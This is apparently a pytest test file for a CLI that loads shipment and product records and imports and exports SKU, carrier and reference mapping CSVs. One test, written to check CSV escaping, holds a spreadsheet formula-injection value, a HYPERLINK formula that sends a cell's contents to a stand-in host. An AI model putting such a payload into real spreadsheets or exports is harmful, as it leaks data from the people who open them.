"""``techoms load`` refuses a bad file whole; ``techoms map`` only ever adds rows."""

from __future__ import annotations

import csv
import json

from tests.cli.conftest import DATA


def test_a_bad_load_file_names_index_key_and_field_and_loads_nothing(store, tmp_path):
    cli = store
    records = json.loads((DATA / "shipments.json").read_text())
    records[3]["lines"][0]["quantity"] = 0
    records[1]["ship_to"].pop("postal_code")
    records[2]["weight"] = 5
    bad = tmp_path / "shipments.json"
    bad.write_text(json.dumps(records))
    result = cli("load", "shipments", str(bad), status=1)
    assert "3 problems; nothing was loaded" in result.stderr
    for line in (
        "record 1 (shipment S-1002): ship_to.postal_code: required",
        "record 2 (shipment S-1003): weight: unknown field",
        "record 3 (shipment S-1004): lines[0].quantity: must be a positive integer, got 0",
    ):
        assert line in result.stderr
    assert cli.json("show", "shipments") == []


def test_good_files_load_and_reload(cli):
    result = cli("load", "products", str(DATA / "products.json"))
    assert "Loaded 6 products" in result.stdout and "6 created" in result.stdout
    again = cli.json("load", "products", str(DATA / "products.json"))
    assert again == {
        "kind": "products",
        "file": str(DATA / "products.json"),
        "created": 0,
        "updated": 0,
        "unchanged": 6,
        "ignored_fields": [],
    }
    assert len(cli.json("show", "products")) == 6


def test_load_file_errors(cli, tmp_path):
    broken = tmp_path / "broken.json"
    broken.write_text("[{")
    assert "not valid JSON" in cli("load", "products", str(broken), status=1).stderr
    assert cli("load", "orders", str(broken), status=2).exit_code == 2
    assert cli("load", "products", str(tmp_path / "none.json"), status=2).exit_code == 2


def test_mapping_rows_add_list_export_import(cli, channel, sandbox, tmp_path):
    cli("map", "sku", channel, "CAP-NAVY", "LF-CAP")
    cli("map", "carrier", channel, "UPS", "UPS Ground", "UPS", "Ground", "--primary")
    cli("map", "reference", channel, "sales_order", "customer_po", "instructions")
    rows = cli.json("map", "list", channel)
    assert rows["sku"] == [{"system_sku": "CAP-NAVY", "channel_sku": "LF-CAP"}]
    assert rows["carrier"][0]["primary"] is True
    assert rows["reference"] == [
        {"level": "sales_order", "code": "customer_po", "property": "instructions"}
    ]
    assert rows["carrier_policy"] == "warn"

    exported = tmp_path / "skus.csv"
    cli("map", "export", channel, "sku", str(exported))
    with exported.open() as handle:
        assert list(csv.DictReader(handle)) == rows["sku"]
    with exported.open("a") as handle:
        handle.write("MUG-12OZ,LF-MUG\n")
    result = cli("map", "import", channel, "sku", str(exported))
    assert "1 sku mapping row(s) added (1 already there)" in result.stdout
    assert len(cli.json("map", "list", channel)["sku"]) == 2


def test_an_import_never_overwrites(cli, channel, tmp_path):
    cli("map", "sku", channel, "CAP-NAVY", "LF-CAP")
    contradicting = tmp_path / "skus.csv"
    contradicting.write_text("system_sku,channel_sku\nTEE,LF-TEE\nCAP-NAVY,OTHER\n")
    result = cli("map", "import", channel, "sku", str(contradicting), status=1)
    assert "CAP-NAVY" in result.stderr
    assert cli.json("map", "list", channel)["sku"] == [
        {"system_sku": "CAP-NAVY", "channel_sku": "LF-CAP"}
    ]


def test_bad_mapping_files_list_every_row(cli, channel, tmp_path):
    bad = tmp_path / "carriers.csv"
    bad.write_text(
        "carrier_channel,service_channel,carrier_system,service_system,primary\n"
        "UPS,,UPS,Ground,true\n"
        "FedEx,2Day,FedEx,2Day,maybe\n"
    )
    result = cli("map", "import", channel, "carrier", str(bad), status=1)
    assert "row 2: service_channel: required" in result.stderr
    assert "row 3: primary: must be true or false, got 'maybe'" in result.stderr
    assert cli.json("map", "list", channel)["carrier"] == []
    header = tmp_path / "refs.csv"
    header.write_text("level,code\nsales_order,x\n")
    result = cli("map", "import", channel, "reference", str(header), status=1)
    assert "missing: property" in result.stderr


def test_a_reference_property_must_be_offered_by_the_plugin(cli, channel):
    result = cli("map", "reference", channel, "sales_order", "customer_po", "colour", status=1)
    assert "'colour' is not a Leanafy property at level sales_order" in result.stderr
    assert "primary_reference_number" in result.stderr
    result = cli("map", "reference", channel, "sales_order_line", "x", "instructions", status=1)
    assert "(offered: none)" in result.stderr


def test_carrier_policy(cli, channel):
    cli("map", "carrier-policy", channel, "error")
    assert cli.json("map", "list", channel)["carrier_policy"] == "error"


def test_a_record_that_conflicts_with_what_was_sent_refuses_the_file(cli, loaded, tmp_path):
    cli("sync", loaded, "export-products", status=1)
    cli("sync", loaded, "send-shipments", status=None)
    records = json.loads((DATA / "shipments.json").read_text())
    records[0]["lines"][0]["quantity"] = 5
    records.append({**records[1], "number": "S-1005"})
    changed = tmp_path / "shipments.json"
    changed.write_text(json.dumps(records))
    result = cli("load", "shipments", str(changed), status=1)
    assert "nothing was loaded" in result.stderr
    assert "record 0 (shipment S-1001)" in result.stderr
    numbers = [s["number"] for s in cli.json("show", "shipments")]
    assert "S-1005" not in numbers


def test_an_exported_cell_never_runs_as_a_formula_and_imports_back_unchanged(
    cli, channel, tmp_path
):
    hostile = '=HYPERLINK("http://x.example/?"&A1,"open")'
    pairs = [(hostile, "LF-1"), ("-5", "+SKU"), ("@SUM(A1)", "'quoted"), ("'=x", "PLAIN")]
    for system, remote in pairs:
        cli("map", "sku", channel, "--", system, remote)
    exported = tmp_path / "skus.csv"
    cli("map", "export", channel, "sku", str(exported))
    with exported.open() as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert f"'{hostile}" in cells and "''quoted" in cells and "''=x" in cells
    cli("channel", "add", "west", "--plugin", "leanafy", "--disabled",
        "--set", "api_url=https://wms.example", "--set", "api_key=env:TEST_LEANAFY_KEY",
        "--set", "api_secret=env:TEST_LEANAFY_SECRET")  # fmt: skip
    cli("map", "import", "west", "sku", str(exported))
    imported = {(r["system_sku"], r["channel_sku"]) for r in cli.json("map", "list", "west")["sku"]}
    assert imported == set(pairs)
